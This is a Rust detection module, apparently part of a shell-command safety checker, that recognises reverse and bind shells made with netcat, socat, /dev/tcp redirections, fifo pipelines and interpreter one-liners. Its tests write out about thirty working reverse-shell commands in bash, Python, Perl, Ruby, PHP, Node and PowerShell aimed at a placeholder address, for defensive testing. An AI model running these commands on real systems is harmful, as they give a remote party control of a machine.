//! Commands that let whoever is at the other end of a network connection run what he likes: a shell, or another program, whose
//! standard streams are that connection (a reverse shell, or one that waits for somebody to connect).

use super::rules::{Found, found};
use super::simple::{Simple, reads_program};
use crate::shell::{base_name, is_shell};

/// What the command does so.
pub(super) fn shell(simple: &Simple, before: &[Simple]) -> Option<Found> {
    let program = redirected(simple)
        .or_else(|| netcat(simple))
        .or_else(|| socat(simple))
        .or_else(|| in_a_circle(simple, before))
        .or_else(|| of_code(simple))?;
    let severity = if is_shell(&program) || !interpreter(&program).is_empty() { "high" } else { "medium" };
    found("reverse-shell", severity, format!("lets whoever is at the other end of a network connection use {program}"))
}

/// A shell that reads what comes from the network, or one that runs a command of somebody else's and answers there.
fn redirected(simple: &Simple) -> Option<String> {
    let [reads, writes, _] = simple.network;
    let name = simple.name();
    let variable = |text: &str| text.starts_with('$') && !text.starts_with("$(");
    let of_somebody = variable(name) || (is_shell(name) || name == "eval") && simple.texts().any(variable);
    let program = if is_shell(name) { name } else { "sh" };
    (reads && is_shell(name) || writes && of_somebody).then(|| program.to_owned())
}

fn is_netcat(name: &str) -> bool {
    matches!(name, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd")
}

/// Letters of netcat's options that take a value, in one of its versions.
const OF_NETCAT: &str = "GgiImMoOpPqsTVwWxX";

/// `nc -e`; `-c` is a command as well, or says that TLS is wanted.
fn netcat(simple: &Simple) -> Option<String> {
    if !is_netcat(simple.name()) {
        return None;
    }
    let texts: Vec<&str> = simple.texts().collect();
    for (at, text) in texts.iter().enumerate() {
        let next = || texts.get(at + 1).copied();
        if let Some(long) = text.strip_prefix("--") {
            let (name, value) = long.split_once('=').map_or((long, next()), |(name, value)| (name, Some(value)));
            if matches!(name, "exec" | "sh-exec" | "lua-exec") {
                return value.map(program);
            }
            continue;
        }
        let Some(letters) = text.strip_prefix('-') else { continue };
        for (at, letter) in letters.char_indices().take_while(|(_, letter)| !OF_NETCAT.contains(*letter)) {
            if !matches!(letter, 'e' | 'c') {
                continue;
            }
            let attached = letters.get(at + 1..).filter(|value| !value.is_empty());
            let value = attached.or_else(next).map(program);
            return value.filter(|program| letter == 'e' || simple.name() == "ncat" || is_shell(program));
        }
    }
    None
}

/// The program of a command line.
fn program(line: &str) -> String {
    let line = line.trim_matches(['\'', '"']);
    base_name(line.split_whitespace().next().unwrap_or_default()).to_owned()
}

/// One address of `socat` is a program, the other is of the network.
fn socat(simple: &Simple) -> Option<String> {
    if simple.name() != "socat" {
        return None;
    }
    let kinds = || simple.operands().map(|word| word.text.split_once(':').unwrap_or((&word.text, "")));
    kinds().find(|(kind, _)| is_of_network(kind))?;
    let (_, line) =
        kinds().find(|(kind, _)| ["exec", "system", "shell"].iter().any(|of| kind.eq_ignore_ascii_case(of)))?;
    Some(program(line.split(',').next().unwrap_or_default()))
}

fn is_of_network(address: &str) -> bool {
    let address = address.to_ascii_lowercase();
    ["tcp", "udp", "openssl", "ssl", "sctp", "dccp", "vsock", "socks", "proxy"]
        .iter()
        .any(|kind| address.starts_with(kind))
}

/// `cat f | sh | nc … > f`: what comes from the network goes to a shell, and what that says goes back.
fn in_a_circle(simple: &Simple, before: &[Simple]) -> Option<String> {
    if !simple.piped {
        return None;
    }
    let mut pipeline = vec![simple];
    for one in before.iter().rev() {
        let first = !one.piped;
        pipeline.push(one);
        if first {
            break;
        }
    }
    let talks = |one: &Simple| match one.name() {
        "telnet" => true,
        "openssl" => one.has(&["s_client", "s_server"]),
        "socat" => one.operands().any(|word| is_of_network(&word.text)),
        name => is_netcat(name),
    };
    let shell = pipeline.iter().find(|one| is_shell(one.name()) && reads_program(one))?;
    let reads = |file: &String| {
        let of_cat = |one: &&Simple| one.name() == "cat" && one.operands().any(|word| word.text == *file);
        pipeline.iter().any(|one| one.read.contains(file) || of_cat(one))
    };
    let through_file = pipeline.iter().any(|one| talks(one)) && simple.written.iter().any(reads);
    let from_one_to_another = talks(simple) && pipeline.last().is_some_and(|first| talks(first));
    (through_file || from_one_to_another).then(|| shell.name().to_owned())
}

/// What code holds that joins a shell to the network: one of each line, by the name of the interpreter.
const CODE: &[(&str, &[&[&str]])] = &[
    ("python", &[&["socket"], &["connect(", "create_connection(", "accept("], &["dup2(", "stdin="], SHELLS]),
    ("python", &[&["socket"], &[".recv("], &["shell=True", "os.popen(", "os.system("], &[".send"]]),
    ("perl", &[&["Socket"], &["connect(", "Socket::INET"], &["STDIN"], &["exec", "system", "fdopen"]]),
    ("ruby", &[&["TCPSocket", "TCPServer"], &["popen", "exec", "spawn"]]),
    (
        "php",
        &[
            &["fsockopen(", "stream_socket_client("],
            &["proc_open(", "&3", "exec($", "popen($", "system($", "passthru($"],
        ],
    ),
    ("node", NODE),
    ("bun", NODE),
    ("deno", NODE),
    ("lua", &[&["socket"], &["connect(", ".tcp("], &["popen", "os.execute"], &["receive", "<&"]]),
    ("powershell", &[&["Sockets.TCPClient", "Sockets.TcpClient"], &["iex", "Invoke-Expression"]]),
    ("pwsh", &[&["Sockets.TCPClient", "Sockets.TcpClient"], &["iex", "Invoke-Expression"]]),
];

const SHELLS: &[&str] = &["/sh", "/bash", "/zsh", "\"sh\"", "'sh'", "\"bash\"", "'bash'", "pty.spawn"];

const NODE: &[&[&str]] = &[
    &["net"],
    &["child_process"],
    &["connect(", "Socket(", "createServer(", "createConnection("],
    &[".stdin"],
    &["pipe("],
];

/// The interpreter that a name stands for, without its version; empty for any other program.
fn interpreter(name: &str) -> &str {
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    CODE.iter().map(|(of, _)| *of).find(|of| *of == name).unwrap_or_default()
}

/// Code that an interpreter is given as an argument or to read.
fn of_code(simple: &Simple) -> Option<String> {
    let name = interpreter(simple.name());
    let texts = simple.texts().chain(simple.input.as_deref().filter(|_| reads_program(simple)));
    let code = texts.collect::<Vec<_>>().join(" ");
    let mut of_name = CODE.iter().filter(|(of, _)| *of == name);
    of_name.any(|(_, all)| all.iter().all(|any| any.iter().any(|text| code.contains(text)))).then(|| "sh".to_owned())
}

#[cfg(test)]
mod tests {
    use super::super::{rules, simple};

    fn severities(script: &str) -> Vec<(&'static str, &'static str)> {
        rules::judge(&simple::of_script(script)).into_iter().map(|harm| (harm.rule, harm.severity)).collect()
    }

    #[test]
    fn a_shell_that_somebody_elsewhere_uses_is_found_however_it_is_made() {
        let cases = [
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "bash -c 'bash -i >&/dev/tcp/10.0.0.1/4242 <&1'",
            "nohup setsid /bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1 &",
            "sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5",
            "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
            "exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done",
            "exec {peer}<>/dev/tcp/10.0.0.1/4242; bash <&$peer >&${peer} 2>&1",
            "exec 3<>/dev/tcp/h/1; while read -u 3 c; do eval \"$c\" >&3 2>&3; done",
            "sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
            "exec 0<>/dev/tcp/h/1 1>&0 2>&0; bash",
            "nc -e /bin/sh 10.0.0.1 4242",
            "nc -nve/bin/bash 10.0.0.1 4242",
            "busybox nc 10.0.0.1 4242 -e sh",
            "nc -lvp 4444 -e /bin/bash",
            "nc -c bash 10.0.0.1 4242",
            "ncat --ssl 10.0.0.1 4242 --sh-exec 'bash -i'",
            "ncat --exec=/bin/sh 10.0.0.1 4242",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            "mkfifo p; nc 10.0.0.1 4242 0<p | /bin/sh >p 2>&1",
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
            "telnet h 4242 | /bin/sh | telnet h 4243",
            "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
            "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
            "socat -d TCP-LISTEN:4242,reuseaddr,fork SYSTEM:bash",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));\
             os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"sh\")'",
            "python - <<'E'\nimport socket,subprocess\ns=socket.create_connection((\"h\",1))\n\
             subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno())\nE",
            "python3.11 -c 'import socket,os\ns=socket.socket();s.connect((\"h\",1))\n\
             while 1: s.send(os.popen(s.recv(999).decode()).read().encode())'",
            "perl -e 'use Socket;$i=\"h\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
             if(connect(S,sockaddr_in(1,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"h:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
            "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"h\",1))'",
            "php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "node -e 'var net=require(\"net\"),sh=require(\"child_process\").spawn(\"sh\",[]);\
             var c=new net.Socket();c.connect(1,\"h\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})'",
            "pwsh -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('h',1); iex $data\"",
        ];
        for script in cases {
            assert_eq!(severities(script), [("reverse-shell", "high")], "{script}");
        }
        let words = ["nc", "-e", "/bin/sh", "10.0.0.1", "4242"].map(str::to_owned);
        assert_eq!(rules::judge(&simple::of_args(&words)).len(), 1);
        for script in ["ncat -lk 8080 -c 'echo hello'", "socat TCP-LISTEN:80,fork EXEC:./handler"] {
            assert_eq!(severities(script), [("reverse-shell", "medium")], "{script}");
        }
    }

    #[test]
    fn what_only_talks_to_the_network_is_no_shell() {
        let cases = [
            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
            "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
            "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/22' && echo open",
            "(echo > /dev/tcp/127.0.0.1/80) 2>/dev/null && echo up",
            "bash -i > out.txt 0>&1",
            "exec 3<>/dev/tcp/h/1; exec 3>&-; bash <&3",
            "echo 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'",
            "grep -r '/dev/tcp/' . | sh -c cat",
            "nc -zv 127.0.0.1 22",
            "nc -c example.com 443",
            "nc -Xconnect -x proxy:3128 example.com 443",
            "nc -l 8080 > received.tar",
            "tar c . | nc example.com 9000",
            "nc -l 9000 | tar x",
            "cat script.sh | sh | tee log",
            "echo 'stats' | nc localhost 11211 | grep x > out",
            "man nc; echo nc -e /bin/sh",
            "socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080",
            "socat UNIX-LISTEN:/tmp/s,fork EXEC:/bin/cat",
            "socat - TCP:127.0.0.1:80",
            "python3 -c 'import socket; s=socket.create_connection((\"h\",80)); s.sendall(b\"x\"); print(s.recv(100))'",
            "python3 -c 'import subprocess; subprocess.run([\"sh\",\"x.sh\"], stdin=subprocess.DEVNULL)'",
            "python3 -m http.server",
            "node -e 'require(\"net\").createServer(s => s.pipe(s)).listen(1)'",
            "php -r 'var_dump(fsockopen(\"h\", 1));'",
            "ruby -rsocket -e 'puts TCPSocket.new(\"h\", 80).read'",
            "ssh host bash -s < script.sh",
        ];
        for script in cases {
            assert_eq!(severities(script), [], "{script}");
        }
    }
}
